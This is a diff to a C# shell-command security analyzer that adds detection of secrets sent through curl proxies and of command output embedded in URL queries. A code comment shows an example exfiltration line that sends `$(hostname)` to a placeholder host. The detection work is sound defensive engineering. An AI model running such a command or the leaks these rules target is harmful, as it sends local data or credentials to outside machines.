@@ -118,6 +118,16 @@ internal sealed partial class ShellAnalysisRun
         // A secret-named variable is normal in an auth header; in the URL or the body it leaves with the request.
         bool secretArgs = c.Ctx.Referenced is { } refs && refs.Any(CredentialPaths.IsSecretName) && !Hosts.IsLocal(host) && host.Length > 0
             && (data.Count > 0 || inv.OptionValue("-H|--header|-u|--user|--oauth2-bearer|--aws-sigv4") is null);
+        // Through a proxy, the request (its auth header too, for http:// URLs) passes a third machine: a secret named
+        // anywhere in it reaches the proxy's host.
+        var proxy = inv.OptionValue("-x|--proxy|--preproxy|--socks4|--socks4a|--socks5|--socks5-hostname");
+        var proxyHost = proxy is not { } px ? "" : Hosts.Of(px.Text.Contains("://", StringComparison.Ordinal) ? px.Text : "http://" + px.Text);
+        bool viaProxy = proxyHost.Length > 0 && !Hosts.IsLocal(proxyHost);
+        if (viaProxy && c.Ctx.Referenced is { } named && named.Any(CredentialPaths.IsSecretName)) { secretArgs = true; host = proxyHost; }
+        // `curl https://x.example/p?h=$(hostname)`: a command's output in the URL is local data sent with the request.
+        if (!Hosts.IsLocal(host) && host.Length > 0 && inv.Positionals.Any(p => p.Dynamic && p.Text.Contains(ShellArg.Unknown) && p.Text.Contains('?', StringComparison.Ordinal))
+            && (c.Ctx.Referenced is null || c.Ctx.Referenced.Count == 0))
+            sends = true;
         bool secretPayload = (fromStdin && StdinIsSecret(c.Ctx)) || files.Exists(f => CredentialIn(f) is not null) || secretArgs || ArgsCarrySecret(inv)
             || inv.OptionValues("--variable").Any(v => v.Text.StartsWith('%') && CredentialPaths.IsSecretName(v.Text[1..]));
         if (sends || secretPayload)
